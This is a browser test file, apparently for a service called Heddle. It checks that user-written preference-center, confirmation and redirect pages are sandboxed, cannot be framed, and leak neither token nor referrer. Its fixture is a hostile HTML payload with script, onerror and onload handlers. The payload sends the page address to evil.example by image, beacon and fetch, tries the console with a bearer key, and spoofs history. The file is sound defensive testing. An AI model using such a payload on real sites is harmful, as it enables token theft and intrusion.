/**
 * Pages written to attack whoever opens them, in a browser: page, confirmation and redirect page, with scripts of the workspace allowed and
 * not. None reaches the console of the same server, none can be framed, none passes for another host, and none carries its token away.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { callHeddle } from "../client.ts";
import { demoKey } from "../heddle.ts";
import { centerDeclaration, freshWorkspace, scriptedKey, storedPage, type Workspace } from "../preference-centers.ts";
import { heddleSuite } from "../suite.ts";
import { browserMissing, browserSuite, type Opened } from "./browser.ts";

const kinds = ["page", "confirmation", "redirect"] as const;
type Kind = (typeof kinds)[number];
const cases = kinds.flatMap((kind) => [[kind, "off"], [kind, "on"]] as const);

describe.skipIf(browserMissing)("in Chromium", () => {
  const suite = heddleSuite({ apply: centerDeclaration });
  const browser = browserSuite();

  test.each(cases)("a hostile %s, with scripts %s, reaches nothing of the server", async (kind, scripts) => {
    const { opened: { page, seen }, url } = await openHostile(kind, scripts, attack);
    expect(await page.evaluate("window.origin")).toBe("null");
    expect(new URL(page.url()).pathname).toBe(new URL(url).pathname);
    if (scripts === "off") {
      // Had one begun, it would have said so before the page was loaded
      expect(await page.evaluate("document.documentElement.dataset.began ?? 'no'")).toBe("no");
    } else {
      await expect.poll(() => resultsOf(page)).toEqual({
        console: "stopped",
        overview: "stopped",
        beacon: "stopped",
        frame: "stopped",
        window: "stopped",
        cookie: "stopped",
        storage: "stopped",
        // Its own address, by leave of the workspace: it may read it, and write another path of the same host into it
        token: "read",
        pushState: "reached",
        replaceState: "reached",
        otherHost: "stopped",
      });
    }
    expect(seen.foreign).toEqual([]);
    expect(new URL(page.url()).host).toBe(new URL(url).host);
    if (scripts === "off") expect(new URL(page.url()).pathname).toBe(new URL(url).pathname);
  });

  test.each(cases)("a link of a %s, with scripts %s, tells nobody where it stood", async (kind, scripts) => {
    const { opened: { page, seen }, url } = await openHostile(kind, scripts, `<a id="away" href="https://evil.example/away">away</a>`);
    const asked = page.waitForRequest((request) => request.url().startsWith("https://evil.example/"));
    await page.locator("#away").click({ noWaitAfter: true });
    const headers = await (await asked).allHeaders();
    expect(JSON.stringify(headers)).not.toContain(tokenOf(url));
    expect([headers["referer"], seen.foreign]).toEqual([undefined, ["https://evil.example/away"]]);
  });

  test.each([["off"], ["on"]] as const)(
    "a redirect page, with scripts %s, leads on by itself and says nothing of the link",
    async (scripts) => {
      const { opened: { page, seen } } = await openHostile(
        "redirect",
        scripts,
        `<meta http-equiv="refresh" content="0;url=https://shop.example/hello">`,
      );
      await expect.poll(() => seen.foreign).toEqual(["https://shop.example/hello"]);
      expect(page.url()).not.toContain("console");
    },
  );

  test("no page of a link can be shown within another, that of a wrong link neither", async () => {
    const workspace = freshWorkspace(suite);
    const url = await workspace.url(await workspace.create(), await workspace.person());
    const framer = createServer((_, response) => response.setHeader("content-type", "text/html").end("<!doctype html><title>x</title>"));
    await new Promise<void>((listening) => framer.listen(0, "127.0.0.1", listening));
    try {
      const { page } = await browser.open(`http://127.0.0.1:${(framer.address() as AddressInfo).port}/`);
      await page.context().unrouteAll();
      for (const framed of [url, `${url}x`]) {
        await page.setContent(`<iframe src="${framed}"></iframe>`, { waitUntil: "load" });
        await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
      }
    } finally {
      framer.closeAllConnections();
      framer.close();
    }
  });

  test("what is written into link tags and origins gets no word of its own into the policy", async () => {
    const workspace = freshWorkspace(suite);
    const tag = { rel: "icon", type: "image/png", sizes: "16x16", href: "https://a;script-src/i.png" };
    const body = { name: "words", preference_center_page_html: "", confirmation_page_html: "" };
    const answer = await workspace.call("POST", "/preference_center/v1", { ...body, options: { "link-tags": [tag] } });
    expect([answer.status, answer.text]).toEqual([400, expect.stringContaining("'href' of a link tag")]);
  });

  test("the page of a link that is none runs in a sandbox too, and its address goes nowhere", async () => {
    const { page } = await browser.open(`${suite.heddle.url}/preferences/abc`);
    expect(await page.evaluate("window.origin")).toBe("null");
    const answer = await fetch(`${suite.heddle.url}/preferences/abc`);
    expect(answer.headers.get("referrer-policy")).toBe("no-referrer");
  });

  async function openHostile(kind: Kind, scripts: "on" | "off", html: string): Promise<{ opened: Opened; url: string }> {
    const workspace = freshWorkspace(suite, scripts === "on" ? scriptedKey : undefined);
    const url = await workspace.url(await createHostile(workspace, kind, html), await workspace.person());
    // The console is there, and would be worth reaching
    const overview = await callHeddle(suite.heddle.url, { method: "GET", path: "/console/overview", key: demoKey });
    expect(overview.status).toBe(200);
    const opened = await browser.open(url);
    if (kind !== "page") {
      await opened.page.getByRole("button", { name: "Save" }).click({ noWaitAfter: true });
      await opened.page.waitForURL(/\?save$|shop\.example|chrome-error/, { waitUntil: "commit" }).catch(() => undefined);
    }
    return { opened, url };
  }
});

/** A redirect page is written by `redirect_page_html`, which takes what the other two do not. */
async function createHostile(workspace: Workspace, kind: Kind, html: string): Promise<string> {
  return await workspace.create({
    preference_center_page_html: kind === "page" ? storedPage.replace("<h1>", `${html}<h1>`) : storedPage,
    confirmation_page_html: kind === "confirmation" ? `<h1>Done</h1>${html}` : "",
    redirect_page_html: kind === "redirect" ? `<meta http-equiv="refresh" content="300;url=https://shop.example/">${html}` : "",
  });
}

async function resultsOf(page: Page): Promise<unknown> {
  return JSON.parse(String(await page.evaluate("document.documentElement.dataset.results ?? '{}'")));
}

function tokenOf(url: string): string {
  return new URL(url).pathname.slice("/preferences/".length);
}

/** Each way in says whether it was open. What is sent is seen by the browser's own list of requests. */
const attack = `<iframe id="frame" src="/console"></iframe>
<img src="x" onerror="document.documentElement.dataset.began = 'yes'">
<svg onload="document.documentElement.dataset.began = 'yes'"></svg>
<script>
document.documentElement.dataset.began = "yes";
(async () => {
  const results = { token: location.pathname.length > "/preferences/".length + 20 ? "read" : "stopped" };
  async function attempt(name, work) {
    try { results[name] = (await work()) ? "reached" : "stopped"; } catch { results[name] = "stopped"; }
  }
  await attempt("console", async () => (await fetch("/console")).ok);
  await attempt("overview", async () => (await fetch("/console/overview", { headers: { authorization: "Bearer ${demoKey}" } })).ok);
  await attempt("beacon", async () => {
    const stolen = encodeURIComponent(location.href);
    new Image().src = "https://evil.example/image?" + stolen;
    navigator.sendBeacon("https://evil.example/beacon", stolen);
    await fetch("https://evil.example/fetch?" + stolen, { mode: "no-cors" });
    return true;
  });
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    frame.src = "/console";
    document.body.append(frame);
    await new Promise((loaded) => { frame.onload = loaded; setTimeout(loaded, 1000); });
    return frame.contentDocument.querySelector("#key") !== null;
  });
  await attempt("window", async () => {
    const other = window.open("/console");
    await new Promise((loaded) => setTimeout(loaded, 500));
    return other.document.body !== null;
  });
  await attempt("cookie", () => { document.cookie = "a=b"; return document.cookie !== ""; });
  await attempt("storage", () => { localStorage.setItem("a", "b"); return true; });
  await attempt("pushState", () => { history.pushState(null, "", "/console"); return true; });
  await attempt("otherHost", () => { history.pushState(null, "", "https://bank.example/"); return true; });
  await attempt("replaceState", () => { history.replaceState(null, "", "/docs"); return true; });
  document.documentElement.dataset.results = JSON.stringify(results);
})();
</script>`;
